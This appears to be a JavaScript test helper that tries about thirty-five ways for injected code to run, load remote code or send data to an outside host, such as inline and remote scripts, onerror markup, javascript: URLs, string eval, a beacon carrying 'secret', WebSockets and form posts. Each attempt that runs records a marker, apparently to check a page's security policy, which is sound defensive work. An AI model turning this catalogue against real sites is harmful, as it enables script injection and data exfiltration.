/* What injected code can try: to run, to load more code, to send data elsewhere. */

globalThis.injected = new Set()

const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties)
  document.body.append(element)
  return element
}

/** Each gets code that leaves a marker, and the address of another host. */
const injections = {
  'a script': (code) => add('script', { text: code }),
  'a script of text nodes': (code) => {
    const script = document.createElement('script')
    script.append(code)
    document.body.append(script)
  },
  'a script from elsewhere': (_, url) => add('script', { src: url }),
  'a script in its address': (code) => add('script', { src: `data:text/javascript,${code}` }),
  'a script of a blob': (code) => add('script', { src: URL.createObjectURL(new Blob([code])) }),
  'a module from elsewhere': (_, url) => import(url),
  'a module in its address': (code) => import(`data:text/javascript,${code}`),
  'a handler': (code) => {
    const button = add('button', {})
    button.setAttribute('onclick', code)
    button.click()
  },
  'markup that is set': (code) => {
    add('div', {}).innerHTML = `<img src="x:" onerror='${code}'>`
  },
  'markup that is added': (code) =>
    document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror='${code}'>`),
  'markup that is parsed': (code) => {
    const page = new DOMParser().parseFromString(`<img src="x:" onerror='${code}'>`, 'text/html')
    document.body.append(...page.body.childNodes)
  },
  'a link that is code': (code) => add('a', { href: `javascript:${code}` }).click(),
  'a frame that is code': (code) => add('iframe', { src: `javascript:parent.${code}` }),
  'a frame of markup': (code) => add('iframe', { srcdoc: `<script>parent.${code}</script>` }),
  'a frame of a stranger': (_, url) => add('iframe', { src: url }),
  'a function of text': (code) => new Function(code)(),
  'a timer of text': (code) => setTimeout(code),
  'a worker from a blob': (_, url) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
  'a picture of a stranger': (_, url) => add('img', { src: url }),
  'a background of a stranger': (_, url) => {
    add('div', {}).style.backgroundImage = `url(${url})`
  },
  'a style that loads another': (_, url) => add('style', { textContent: `@import url(${url})` }),
  'a style sheet of a stranger': (_, url) => add('link', { rel: 'stylesheet', href: url }),
  'a font of a stranger': (_, url) => new FontFace('stranger', `url(${url})`).load(),
  'a film of a stranger': (_, url) => add('video', { src: url }),
  'an object of a stranger': (_, url) => add('object', { data: url }),
  'an embedded stranger': (_, url) => add('embed', { src: url }),
  'a manifest of a stranger': (_, url) => add('link', { rel: 'manifest', href: url }),
  'a fetch': (_, url) => fetch(url, { mode: 'no-cors' }),
  'an old request': (_, url) => {
    const request = new XMLHttpRequest()
    request.open('GET', url)
    request.send()
  },
  'a beacon': (_, url) => navigator.sendBeacon(url, 'secret'),
  'a socket': (_, url) => new WebSocket(url.replace('http', 'ws')),
  'a stream of events': (_, url) => new EventSource(url),
  'a form to a stranger': (_, url) => {
    add('iframe', { name: 'elsewhere' })
    add('form', { action: url, method: 'post', target: 'elsewhere' }).submit()
  },
  'another base': (code, url) => {
    add('base', { href: url })
    if (document.baseURI === url) injected.add('another base')
    return code
  },
  'leave to make code of text': () => {
    trustedTypes.createPolicy('stranger', { createScript: (text) => text })
    injected.add('leave to make code of text')
  },
}

/** Tries all of them and returns their number. Those that left a marker are in `injected`. */
globalThis.inject = async (stranger) => {
  for (const [name, attempt] of Object.entries(injections)) {
    // Runs in a task of the page, as injected code would.
    setTimeout(() => {
      const mark = encodeURIComponent(name)
      Promise.try(
        attempt,
        `injected.add(decodeURIComponent("${mark}"))`,
        `${stranger}/${mark}`,
      ).catch(() => {})
    })
  }
  await new Promise((resolve) => setTimeout(resolve, 1_500))
  return Object.keys(injections).length
}
